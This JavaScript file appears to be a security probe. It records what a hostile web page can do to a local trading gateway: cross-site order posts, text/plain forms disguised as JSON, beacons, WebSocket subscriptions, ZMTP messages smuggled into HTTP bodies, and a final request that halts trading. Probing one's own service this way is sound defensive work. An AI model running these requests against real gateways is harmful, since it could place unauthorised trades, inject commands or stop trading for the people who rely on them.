// What a page on another site can try against a gateway on this machine. Everything that the page could read comes
// back as text by the name of the try; "" where the browser let it read nothing, "!Name" where it threw that error.
//
// to: {rest, ws: addresses, zmq: [addresses as http://…], token, commands: [text], order: object, pause_ms}
async function attack(to) {
  const seen = {};
  const pause = ms => new Promise(done => setTimeout(done, ms));
  const attempt = (name, work) => {
    const bounded = Promise.race([Promise.resolve().then(work), pause(to.pause_ms).then(() => "")]);
    return bounded.then(text => { seen[name] = text; }, error => { seen[name] = `!${error.name}`; });
  };
  const get = (path, how = {}) => fetch(to.rest + path, how).then(answer => answer.text());
  const post = (path, body, headers = {}, how = {}) => get(path, { method: "POST", body, headers, ...how });
  const order = JSON.stringify(to.order);
  const command = to.commands[to.commands.length - 1];
  const fields = new URLSearchParams(to.order);
  const parts = new FormData();
  Object.entries(to.order).forEach(([name, value]) => parts.append(name, value));
  const json = { "Content-Type": "application/json" };
  const token = { "X-Token": to.token };

  const embed = (name, tag, set) => attempt(name, () => new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => {
      let text = "";
      try { text = element.contentDocument?.body?.textContent ?? ""; } catch (error) { text = `!${error.name}`; }
      done(text || (element.naturalWidth ? "an image" : ""));
    };
    element.onerror = () => done("");
    set(element);
    document.body.append(element);
  }));

  // A form that is sent into a frame; text/plain can be made to look like JSON.
  const form = (name, path, enctype, names) => embed(name, "iframe", frame => {
    frame.name = `frame ${name}`;
    const sent = document.createElement("form");
    Object.assign(sent, { action: to.rest + path, method: "POST", enctype, target: frame.name });
    Object.entries(names).forEach(([key, value]) => {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name: key, value });
      sent.append(input);
    });
    document.body.append(sent);
    setTimeout(() => sent.submit());
  });
  const disguised = text => ({ [`${text.slice(0, -1)},"comment":"`]: '"}' });

  const socket = (name, address, says) => attempt(name, () => new Promise(done => {
    const heard = [];
    const opened = new WebSocket(address);
    opened.onopen = () => { heard.push("open"); says.forEach(each => opened.send(JSON.stringify(each))); };
    opened.onmessage = event => heard.push(event.data);
    opened.onclose = () => done(heard.join("\n"));
    setTimeout(() => { done(heard.join("\n")); opened.close(); }, to.pause_ms - 500);
  }));

  // A message of ZMTP 1.0 in the body of a request: whatever stands before it, one of three lengths of padding ends
  // at its first byte.
  const smuggled = (text, shift) => {
    const bytes = new TextEncoder().encode(text), size = bytes.length + 1;
    const length = size < 255 ? [size] : [255, 0, 0, 0, 0, 0, 0, size >> 8, size & 255];
    return new Blob([new Uint8Array(600 + shift).fill(2), new Uint8Array([...length, 0]), bytes]);
  };

  const tries = [
    attempt("fetch /health", () => get("/health")),
    attempt("fetch /ticks", () => get("/ticks/EURUSD")),
    attempt("fetch /ticks no-cors", () => get("/ticks/EURUSD", { mode: "no-cors" })),
    attempt("fetch /ticks same-origin mode", () => get("/ticks/EURUSD", { mode: "same-origin" })),
    attempt("fetch /ticks credentials", () => get("/ticks/EURUSD", { credentials: "include", cache: "reload" })),
    attempt("fetch /ticks token", () => get("/ticks/EURUSD", { headers: token })),
    attempt("fetch /ticks bearer", () => get("/ticks/EURUSD", { headers: { Authorization: `Bearer ${to.token}` } })),
    attempt("fetch /ticks token in address", () => get(`/ticks/EURUSD?token=${to.token}`)),
    attempt("fetch /account token", () => get("/account?broker=demo", { headers: token })),
    attempt("fetch /status token", () => get("/status", { headers: token })),
    attempt("fetch /trade json", () => post("/trade", order, { ...json, ...token })),
    attempt("fetch /trade json without a token", () => post("/trade", order, json)),
    attempt("fetch /trade text", () => post("/trade", order)),
    attempt("fetch /trade text no-cors", () => post("/trade", order, {}, { mode: "no-cors" })),
    attempt("fetch /trade text token", () => post("/trade", order, token)),
    attempt("fetch /trade form", () => post("/trade", fields)),
    attempt("fetch /trade multipart", () => post("/trade", parts)),
    attempt("fetch /trade blob", () => post("/trade", new Blob([order]), {}, { mode: "no-cors", keepalive: true })),
    attempt("fetch /command text", () => post("/command", command, {}, { mode: "no-cors" })),
    attempt("fetch / text", () => post("/", command, {}, { mode: "no-cors" })),
    attempt("fetch DELETE", () => get("/brokers/demo/orders/1", { method: "DELETE", headers: token })),
    ...["GET", "POST"].map(method => attempt(`XHR ${method}`, () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open(method, to.rest + (method === "GET" ? "/ticks/EURUSD" : "/trade"));
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => fail({ name: "NetworkError" });
      request.send(method === "GET" ? null : order);
    }))),
    attempt("EventSource", () => new Promise(done => {
      const source = new EventSource(`${to.rest}/ticks/EURUSD`);
      source.onmessage = event => done(event.data);
      source.onerror = () => { source.close(); done(""); };
    })),
    attempt("beacon text", () => { navigator.sendBeacon(`${to.rest}/trade`, order); return ""; }),
    attempt("beacon command", () => { navigator.sendBeacon(`${to.rest}/command`, new Blob([command])); return ""; }),
    attempt("beacon json", () => {
      navigator.sendBeacon(`${to.rest}/trade`, new Blob([order], { type: "application/json" }));
      return "";
    }),
    form("form /trade text", "/trade", "text/plain", disguised(order)),
    form("form /command text", "/command", "text/plain", disguised(command)),
    form("form / text", "/", "text/plain", disguised(command)),
    form("form /trade", "/trade", "application/x-www-form-urlencoded", to.order),
    form("form /trade multipart", "/trade", "multipart/form-data", to.order),
    embed("frame", "iframe", frame => { frame.src = `${to.rest}/ticks/EURUSD`; }),
    embed("image", "img", image => { image.src = `${to.rest}/ticks/EURUSD`; }),
    embed("script", "script", script => { script.src = `${to.rest}/ticks/EURUSD`; }),
    embed("style", "link", link => { link.rel = "stylesheet"; link.href = `${to.rest}/ticks/EURUSD`; }),
    socket("WebSocket ticks", to.ws, [{ type: "get_symbols" }, { type: "subscribe", symbols: ["EURUSD"] }]),
    socket("WebSocket token", to.ws, [
      { type: "auth", token: to.token },
      { type: "subscribe", symbols: ["EURUSD"] },
      { type: "subscribe", channels: ["account", "orders", "risk", "events"] },
    ]),
    socket("WebSocket channels", to.ws, [{ type: "subscribe", channels: ["account", "orders", "risk", "events"] }]),
    socket("WebSocket at REST", to.rest.replace("http", "ws"), []),
    ...to.zmq.flatMap((address, at) => [
      attempt(`ZeroMQ ${at} command`, () => fetch(address, { method: "POST", body: command, mode: "no-cors" })
        .then(answer => answer.text())),
      attempt(`ZeroMQ ${at} readable`, () => fetch(address).then(answer => answer.text())),
      socket(`ZeroMQ ${at} WebSocket`, address.replace("http", "ws"), []),
      ...to.commands.flatMap((text, which) => [0, 1, 2].map(shift =>
        attempt(`ZeroMQ ${at} smuggled ${which} ${shift}`, () => {
          const path = `${Math.random()}${"a".repeat(60)}`;
          const how = { method: "POST", body: smuggled(text, shift), mode: "no-cors" };
          return fetch(`${address}${path}`, how).then(answer => answer.text());
        }))),
    ]),
  ];
  await Promise.all(tries);
  // Last, since where it works no order passes any more.
  const halt = '{"state":"halted","reason":"x"}';
  await attempt("fetch /risk/state", () => post("/risk/state", halt, { ...json, ...token }));
  return seen;
}
